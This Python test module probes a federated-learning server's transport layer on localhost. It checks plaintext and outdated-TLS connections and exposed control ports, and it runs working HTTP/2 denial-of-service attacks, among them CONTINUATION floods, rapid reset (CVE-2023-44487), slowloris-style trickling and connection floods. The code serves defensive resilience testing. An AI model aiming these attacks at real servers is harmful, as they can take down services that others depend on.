"""Lines that are not what they should be: without TLS or with an old one, half open, trickling, too many, too fast.

Who cannot be turned away one by one must not keep the sites from their work: such an attack lasts until
the honest studies have worked a whole round under it, and says how it was met.
"""

import contextlib
import socket
import ssl
import threading
import time
import warnings
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager

import psutil

from deploy.bench import http2
from deploy.bench.family import server_parts
from deploy.bench.intruder_calls import credentials
from deploy.bench.intruder_ground import GotIn, Ground
from shared.keys import make_transport_key

MANY = 600  # lines at a time
CALLS_A_LINE = 100
CONNECT_S = 10.0
MOST_GROWTH = 512 << 20  # bytes of the SuperLink's memory; a call of a stranger may not cost it
_BATCH = 100


def plaintext(ground: Ground) -> str:
    """Speak HTTP/2 without TLS."""
    with _dialled(ground) as line:
        line.sendall(http2.opening())
        return _closed(line)


def scanner(ground: Ground) -> str:
    """Speak HTTP/1.1 as a web browser does."""
    with _dialled(ground) as line:
        line.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        return _closed(line)


def _old_tls(version: ssl.TLSVersion, ciphers: str) -> Callable[[Ground], str]:
    def attack(ground: Ground) -> str:
        """Offer no newer TLS than this, or nothing but these ciphers."""
        made = http2.context(ground.ca_pem)
        made.set_ciphers(ciphers)
        with contextlib.suppress(ValueError), warnings.catch_warnings(action="ignore"):
            made.minimum_version = version
            made.maximum_version = version
        try:
            with _dialled(ground) as line, made.wrap_socket(line, server_hostname="127.0.0.1") as speaks:
                raise GotIn(f"the server speaks {speaks.version()} with {speaks.cipher()}")
        except ssl.SSLError as error:
            return f"{error.reason}"
        except OSError:
            return "the server closed the line"

    return attack


def control_from_outside(ground: Ground) -> str:
    """Dial the server's HTTP APIs by an address of this machine that others can dial."""
    ports = _inner_ports(ground)
    outside = [a.address for found in psutil.net_if_addrs().values() for a in found if a.family is socket.AF_INET]
    for address in [a for a in outside if not a.startswith("127.")] or ["127.0.0.2"]:
        for port in ports:
            with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=2.0):
                raise GotIn(f"the Control API answers at {address}")
    return f"connection refused at {len(ports)} ports"


def headers_without_end(ground: Ground) -> str:
    """Send one call's headers in continuation frames that never end (CVE-2024-27316)."""
    with _spoken(ground) as line:
        line.sendall(http2.call(1, flags=0))
        more = http2.frame(http2.CONTINUATION, 1, http2.literal("x", "y" * 8000))
        return _sent_until_closed(line, more, most=4000)


def headers_that_swell(ground: Ground) -> str:
    """Send headers beyond any measure in one block."""
    with _spoken(ground) as line:
        line.sendall(http2.call(1, extra=[(f"x{n}", "y" * 500) for n in range(30)]))
        return _answered_or_closed(line)


def frame_too_large(ground: Ground) -> str:
    """Announce a frame of 16 MB."""
    with _spoken(ground) as line:
        line.sendall(http2.call(1) + http2.frame(http2.DATA, 1, bytes(1000), length=(1 << 24) - 1))
        return _sent_until_closed(line, bytes(1 << 16), most=400)


def pings(ground: Ground) -> str:
    """Send pings without pause."""
    with _spoken(ground) as line:
        return _sent_until_closed(line, http2.frame(http2.PING, 0, bytes(8)) * 100, most=100_000)


# ------------------------------------------------------------------ load


def half_open(ground: Ground) -> str:
    """Hold many connections on which nothing is said."""
    with _lines(ground, MANY):
        return _endured(ground, f"{MANY} connections without a word")


def half_handshakes(ground: Ground) -> str:
    """Hold many TLS handshakes of which the first bytes have come."""
    hello = bytes.fromhex("16030100f0010000ec0303")  # of a handshake record (RFC 8446, section 5.1)
    with _lines(ground, MANY) as lines:
        for line in lines:
            line.sendall(hello)
        return _endured(ground, f"{MANY} handshakes that stand still")


def trickled_frames(ground: Ground) -> str:
    """Send a call's head byte by byte on many lines."""
    with ExitStack() as stack:
        lines = [stack.enter_context(_spoken(ground)) for _ in range(MANY // 20)]
        head = http2.call(1)

        def trickle(turn: int) -> None:
            for line in lines:
                line.sendall(head[turn % len(head) : turn % len(head) + 1])
            time.sleep(0.2)

        return _endured(ground, f"{len(lines)} lines that trickle", meanwhile=trickle)


def calls_without_end(ground: Ground) -> str:
    """Begin more calls than the server has places, and end none."""
    with ExitStack() as stack:
        lines = [stack.enter_context(_spoken(ground)) for _ in range(12)]
        for line in lines:
            line.sendall(b"".join(http2.call(2 * n + 1) for n in range(CALLS_A_LINE)))
        return _endured(ground, f"{len(lines) * CALLS_A_LINE} calls that never end")


def rapid_reset(ground: Ground) -> str:
    """Begin calls and take them back at once (CVE-2023-44487)."""

    def storm(line: ssl.SSLSocket, first: int) -> None:
        streams = range(first, first + 2 * _BATCH, 2)
        line.sendall(b"".join(http2.call(s) + http2.frame(http2.RST_STREAM, s, http2.CANCEL) for s in streams))

    return _stormed(ground, storm, "calls begun and taken back")


def flood_of_calls(ground: Ground) -> str:
    """Activate unknown keys without pause."""
    key = make_transport_key()
    shown = dict(credentials(key))

    def storm(line: ssl.SSLSocket, first: int) -> None:
        time_said = [("flwr-timestamp", str(shown["flwr-timestamp"]))]
        streams = range(first, first + 2 * _BATCH, 2)
        path = "/flwr.proto.Fleet/ActivateNode"
        ends = http2.frame(http2.DATA, 0, bytes(5), flags=http2.END_STREAM)
        line.sendall(b"".join(http2.call(s, path, extra=time_said) + _at(ends, s) for s in streams))

    return _stormed(ground, storm, "joins without right")


def flood_of_connections(ground: Ground) -> str:
    """Connect and go without pause."""
    made = 0

    def connect(_: int) -> None:
        nonlocal made
        with contextlib.suppress(OSError), _dialled(ground):
            made += 1

    ended = _endured(ground, "connections", meanwhile=connect)
    return f"{made} {ended}"


# ------------------------------------------------------------------ how


@contextmanager
def _dialled(ground: Ground) -> Iterator[socket.socket]:
    with socket.create_connection(("127.0.0.1", ground.port), timeout=CONNECT_S) as line:
        yield line


@contextmanager
def _spoken(ground: Ground) -> Iterator[ssl.SSLSocket]:
    """A line with TLS, on which HTTP/2 was begun."""
    with _dialled(ground) as raw, http2.context(ground.ca_pem).wrap_socket(raw, server_hostname="127.0.0.1") as line:
        line.sendall(http2.opening())
        yield line


@contextmanager
def _lines(ground: Ground, count: int) -> Iterator[list[socket.socket]]:
    with ExitStack() as stack:
        yield [stack.enter_context(_dialled(ground)) for _ in range(count)]


def _closed(line: socket.socket) -> str:
    try:
        while data := line.recv(4096):
            if b"HTTP/1.1 200" in data:
                raise GotIn("the server answers without TLS")
    except TimeoutError:
        raise GotIn("the server holds the line") from None
    except OSError:
        pass
    return "the server closed the line"


def _sent_until_closed(line: ssl.SSLSocket, data: bytes, *, most: int) -> str:
    """Send the same until the server has had enough of it."""
    try:
        for count in range(most):
            line.sendall(data)
            if count % _BATCH == 0:
                time.sleep(0.01)
    except OSError:
        return f"the server closed the line after {count * len(data):,} bytes"
    return _answered_or_closed(line)


def _answered_or_closed(line: ssl.SSLSocket) -> str:
    """The server ends a call, or the line."""
    deadline = time.monotonic() + CONNECT_S
    try:
        while time.monotonic() < deadline:
            data = line.recv(65536)
            if not data:
                return "the server closed the line"
            if b"grpc-status" in data or b"\x00\x00\x04\x03\x00" in data:
                return "the server ended the call"
    except TimeoutError:
        raise GotIn("the server takes it, and says nothing") from None
    except OSError:
        pass
    return "the server closed the line"


def _endured(ground: Ground, what: str, *, meanwhile: Callable[[int], None] = lambda turn: time.sleep(0.1)) -> str:
    """Go on until the studies have worked a whole round; what it cost the SuperLink."""
    process = psutil.Process(_superlink(ground))
    before, began = process.memory_info().rss, time.monotonic()
    done = threading.Event()
    trouble: list[GotIn] = []

    def watch() -> None:
        try:
            ground.studies.await_round()
        except GotIn as suffered:
            trouble.append(suffered)
        done.set()

    watcher = threading.Thread(target=watch, name="watch")
    watcher.start()
    turn = 0
    while not done.is_set():
        with contextlib.suppress(OSError):
            meanwhile(turn)
        turn += 1
    watcher.join()
    if trouble:
        raise trouble[0]
    if (grown := process.memory_info().rss - before) > MOST_GROWTH:
        raise GotIn(f"the server's memory grew by {grown >> 20} MiB")
    return f"{what}: a whole round was worked meanwhile, in {time.monotonic() - began:.0f} s"


def _stormed(ground: Ground, storm: Callable[[ssl.SSLSocket, int], None], what: str) -> str:
    sent = closed = 0

    def turn(_: int) -> None:
        nonlocal sent, closed
        with _spoken(ground) as line:
            try:
                for first in range(1, 1 << 20, 2 * _BATCH):
                    storm(line, first)
                    sent += _BATCH
            except OSError:
                closed += 1

    ended = _endured(ground, what, meanwhile=turn)
    return f"{sent:,} {ended}, and {closed} lines were closed"


def _at(frame: bytes, stream: int) -> bytes:
    return frame[:5] + stream.to_bytes(4) + frame[9:]


def _superlink(ground: Ground) -> int:
    return server_parts(ground.running)["superlink"]


def _inner_ports(ground: Ground) -> list[int]:
    """TCP ports on which the server's processes listen, but the Fleet API's."""
    processes = [psutil.Process(pid) for pid in server_parts(ground.running).values()]
    held = [c for p in processes for c in p.net_connections("tcp") if c.status == psutil.CONN_LISTEN]
    return sorted({c.laddr.port for c in held} - {ground.port})


LINES: Mapping[str, Callable[[Ground], str]] = {
    "HTTP/2 without TLS": plaintext,
    "HTTP/1.1 without TLS": scanner,
    "TLS 1.0": _old_tls(ssl.TLSVersion.TLSv1, "ALL:@SECLEVEL=0"),
    "TLS 1.1": _old_tls(ssl.TLSVersion.TLSv1_1, "ALL:@SECLEVEL=0"),
    "TLS 1.2 without forward secrecy": _old_tls(ssl.TLSVersion.TLSv1_2, "AES128-SHA:AES256-SHA:@SECLEVEL=0"),
    "Control API from outside": control_from_outside,
    "headers without an end": headers_without_end,
    "headers that swell": headers_that_swell,
    "a frame of 16 MB": frame_too_large,
    "pings without pause": pings,
}
LOADS: Mapping[str, Callable[[Ground], str]] = {
    "half-open connections": half_open,
    "half TLS handshakes": half_handshakes,
    "trickled frames": trickled_frames,
    "calls without an end": calls_without_end,
    "HTTP/2 rapid reset": rapid_reset,
    "a flood of joins": flood_of_calls,
    "a flood of connections": flood_of_connections,
}
